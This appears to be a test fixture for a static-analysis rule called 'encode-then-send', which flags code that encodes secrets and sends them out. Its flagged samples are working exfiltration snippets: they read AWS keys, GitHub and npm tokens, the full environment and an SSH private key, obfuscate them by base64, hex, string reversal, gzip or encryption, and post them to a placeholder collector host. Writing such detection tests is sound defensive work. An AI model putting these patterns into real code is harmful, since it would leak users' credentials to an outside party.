import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import https from 'node:https';
import crypto, { createCipheriv } from 'node:crypto';
import zlib from 'node:zlib';
import axios from 'axios';

const URL = 'https://collector.example.com/';

export async function environment() {
  const text = JSON.stringify({ key: process.env.AWS_SECRET_ACCESS_KEY, user: os.userInfo() });
  const data = Buffer.from(text).toString('base64');
  // ruleid: encode-then-send
  await fetch(`${URL}?d=${data}`);
  // ruleid: encode-then-send
  https.get(URL + Buffer.from(process.env.GITHUB_TOKEN).toString('hex'));
  // ruleid: encode-then-send
  await axios.post(URL, { d: btoa(JSON.stringify(process.env)) });
  // ruleid: encode-then-send
  new Image().src = await fetch(`${URL}${process.env.NPM_TOKEN.split('').reverse().join('')}`);
}

export async function files() {
  const history = fs.readFileSync(path.join(os.homedir(), 'notes.txt'));
  // ok: encode-then-send
  await fetch(URL, { method: 'POST', body: history.toString('base64') });
  const key = await fs.promises.readFile(`${process.env.HOME}/.ssh/id_rsa`);
  const packed = zlib.gzipSync(key);
  // ruleid: encode-then-send
  await fetch(URL, { method: 'POST', body: packed });
}

export async function encrypted(password, iv) {
  const cipher = crypto.createCipheriv('aes-256-cbc', password, iv);
  let data = cipher.update(JSON.stringify(process.env), 'utf8', 'hex');
  data += cipher.final('hex');
  const request = https.request({ host: 'example.com', method: 'POST' });
  // ruleid: encode-then-send
  request.end(data);
}

export async function login() {
  const basic = Buffer.from(`${process.env.USER_NAME}:${process.env.API_TOKEN}`).toString('base64');
  // ok: encode-then-send
  await fetch(URL, { headers: { Authorization: `Basic ${basic}` } });
  // ok: encode-then-send
  await axios.get(URL, { headers: { Authorization: 'Basic ' + btoa(process.env.LOGIN) } });
  const headers = new Headers();
  headers.set('Authorization', `Basic ${basic}`);
  // ok: encode-then-send
  await fetch(URL, { headers });
  // ok: encode-then-send
  await fetch(URL, { headers: { 'X-Api-Key': process.env.API_KEY } });
  const signature = crypto.createHmac('sha256', process.env.SIGNING_KEY).update('x').digest('hex');
  // ok: encode-then-send
  await fetch(URL, { headers: { 'X-Signature': signature } });
}

export async function images(file) {
  const response = await fetch(`${process.env.BASE_URL}/image`);
  const image = Buffer.from(await response.arrayBuffer()).toString('base64');
  // ok: encode-then-send
  await fetch(URL, { method: 'POST', body: JSON.stringify({ image }) });
  const upload = fs.readFileSync(file).toString('base64');
  // ok: encode-then-send
  await fetch(URL, { method: 'POST', body: JSON.stringify({ upload }) });
  const client = new Client({ key: process.env.API_KEY });
  const made = Buffer.from(client.render()).toString('base64');
  // ok: encode-then-send
  await fetch(URL, { method: 'POST', body: made });
  // fetch(URL + btoa(process.env.KEY))
  // ok: encode-then-send
  return 'fetch(URL + btoa(process.env.KEY))';
}
